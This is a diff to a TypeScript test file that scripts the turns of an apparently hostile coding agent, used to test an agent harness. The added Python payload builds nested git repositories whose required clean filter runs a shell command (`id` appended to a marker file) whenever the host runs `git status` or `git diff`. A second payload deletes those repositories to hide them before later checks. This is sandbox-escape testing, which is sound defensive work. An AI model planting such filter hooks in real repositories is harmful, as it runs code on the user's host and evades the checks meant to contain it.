@@ -116,3 +116,67 @@ export const attackTurns = {
   writeFlood: (): ScriptTurn[] => [write('tests/test_flood.py', writeFloodTest), finish],
   secretName: (secret: string): ScriptTurn[] => [write(`notes_${secret}.py`, 'X = 1\n'), finish],
 };
+
+// Makes nested git repositories at import time (so the coder's own run_tests makes them), each with a filter its own
+// config defines and its own .gitattributes names, and a file whose changed mtime makes `git status` there hash it
+// through that filter: `vendored/` untracked (`git add -A` would stage it as a gitlink), `sub/` in the folder of a
+// submodule the base commit holds (any host `git status` or `git diff HEAD` over the worktree recurses into it).
+const nestedRepoTest = `import os, subprocess
+
+MARK = os.environ['ATTACK_MARKER']
+
+def _nested(folder):
+    if os.path.isdir(os.path.join(folder, '.git')):
+        return
+    os.makedirs(folder, exist_ok=True)
+    def git(*args):
+        subprocess.run(['git', '-C', folder, '-c', 'user.name=a', '-c', 'user.email=a@a', *args], check=True,
+                       capture_output=True)
+    git('init', '-q')
+    with open(os.path.join(folder, 'f.txt'), 'w') as handle:
+        handle.write('hi\\n')
+    git('add', 'f.txt')
+    git('commit', '-qm', 'nested')
+    git('config', 'filter.pwn.clean', "sh -c 'id >> %s; cat'" % MARK)
+    git('config', 'filter.pwn.required', 'true')
+    with open(os.path.join(folder, '.gitattributes'), 'w') as handle:
+        handle.write('* filter=pwn\\n')
+    os.utime(os.path.join(folder, 'f.txt'), (1, 1))
+
+_nested('vendored')
+_nested('sub')
+
+def test_passes():
+    assert True
+`;
+
+// The same test file once the coder looked: the nested repositories gone, the submodule's folder empty again.
+const nestedRepoGoneTest = `import os, shutil
+
+for folder in ('vendored', 'sub'):
+    shutil.rmtree(folder, ignore_errors=True)
+os.makedirs('sub', exist_ok=True)
+
+def test_passes():
+    assert True
+`;
+
+export const nestedRepoTurns = {
+  /** The test node's own run meets the nested repositories (the coder's run_tests made them). */
+  testRun: (): ScriptTurn[] => [
+    write('calc.py', fixedCalc),
+    write('tests/test_nested.py', nestedRepoTest),
+    turn('run_tests', {}),
+    finish,
+  ],
+  /** Only the coder's git_diff meets them: the coder's next run removes them before the test node. */
+  gitDiff: (): ScriptTurn[] => [
+    write('calc.py', fixedCalc),
+    write('tests/test_nested.py', nestedRepoTest),
+    turn('run_tests', {}),
+    turn('git_diff', {}),
+    write('tests/test_nested.py', nestedRepoGoneTest),
+    turn('run_tests', {}),
+    finish,
+  ],
+};
